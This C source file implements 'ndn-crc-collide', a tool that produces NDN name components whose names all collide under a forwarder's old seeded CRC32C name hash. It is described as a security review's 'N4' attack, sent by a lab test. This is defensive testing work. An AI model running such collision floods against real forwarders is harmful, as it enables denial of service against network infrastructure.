/* SPDX-License-Identifier: BSD-3-Clause */
/* ndn-crc-collide N [COMPONENT]...: N distinct NDN name components (one a line, the
 * component's TLV in hex) such that the names /COMPONENT.../<line> all have one hash
 * under the forwarder's old name hash (CRC32C per component chained from a seed),
 * whatever the seed: the review's N4 attack, made by the method test_hash.c runs
 * against a real PCCT (ndn_crc_collide.h). The lab sends them (test_ndn_collisions.py).
 *
 * It checks what it prints: every name's old hash equal for seed 0 and for two seeds
 * from getrandom(2), else exit status 1. Exit status 2: bad arguments. */
#include <errno.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/random.h>

#include "ndn_crc_collide.h"

#define N_MAX 1000000
#define PREFIX_MAX 8

/* fill p with n random bytes; 0 or -1 */
static int random_bytes(void *p, size_t n)
{
	for (size_t got = 0; got < n;) {
		ssize_t r = getrandom((uint8_t *)p + got, n - got, 0);
		if (r < 0 && errno != EINTR)
			return -1;
		if (r > 0)
			got += (size_t)r;
	}
	return 0;
}

/* the old hash of /prefix.../c from seed: CRC32C of each component's TLV, chained */
static uint32_t old_name_hash(uint8_t pre[][2 + 252], const size_t *pre_len, int n_pre,
			      const uint8_t *c, uint32_t seed)
{
	uint32_t h = seed;

	for (int k = 0; k < n_pre; k++)
		h = rte_hash_crc(pre[k], (uint32_t)pre_len[k], h);
	return ndn_crc_old_comp(c, h);
}

int main(int argc, char **argv)
{
	static uint8_t pre[PREFIX_MAX][2 + 252];
	size_t pre_len[PREFIX_MAX];
	uint32_t inv[32], seeds[3] = {0, 0, 0}, want[3];
	char *end;

	if (argc < 2 || argc - 2 > PREFIX_MAX) {
		fprintf(stderr, "usage: ndn-crc-collide N [COMPONENT]... (at most %d)\n",
			PREFIX_MAX);
		return 2;
	}
	unsigned long n = strtoul(argv[1], &end, 10);
	if (*end || n == 0 || n > N_MAX) {
		fprintf(stderr, "ndn-crc-collide: bad N '%s' (1-%d)\n", argv[1], N_MAX);
		return 2;
	}
	int n_pre = argc - 2;
	for (int k = 0; k < n_pre; k++) {
		size_t len = strlen(argv[2 + k]);
		if (len == 0 || len > 252) {
			fprintf(stderr, "ndn-crc-collide: component %d: 1-252 bytes\n", k + 1);
			return 2;
		}
		/* GenericNameComponent; TLV-LENGTH < 253: one byte (NDN packet format 0.3,
		 * TLV encoding, VAR-NUMBER) */
		pre[k][0] = 8;
		pre[k][1] = (uint8_t)len;
		memcpy(pre[k] + 2, argv[2 + k], len);
		pre_len[k] = 2 + len;
	}
	if (ndn_crc_solve_setup(inv) < 0 || random_bytes(&seeds[1], 2 * sizeof(seeds[1])) < 0) {
		fprintf(stderr, "ndn-crc-collide: no solution or no random bytes\n");
		return 1;
	}
	for (unsigned long i = 0; i < n; i++) {
		uint8_t free[NDN_CRC_FREE], c[NDN_CRC_COMP_LEN];
		uint32_t i32 = (uint32_t)i;
		if (random_bytes(free, sizeof(free)) < 0)
			return 1;
		memcpy(free, &i32, sizeof(i32)); /* distinct whatever the random bytes */
		ndn_crc_component(c, free, inv);
		for (int s = 0; s < 3; s++) {
			uint32_t h = old_name_hash(pre, pre_len, n_pre, c, seeds[s]);
			if (i == 0)
				want[s] = h;
			else if (h != want[s]) {
				fprintf(stderr, "ndn-crc-collide: name %lu does not collide\n", i);
				return 1;
			}
		}
		for (int k = 0; k < NDN_CRC_COMP_LEN; k++)
			printf("%02x", c[k]);
		putchar('\n');
	}
	return fflush(stdout) == 0 ? 0 : 1;
}
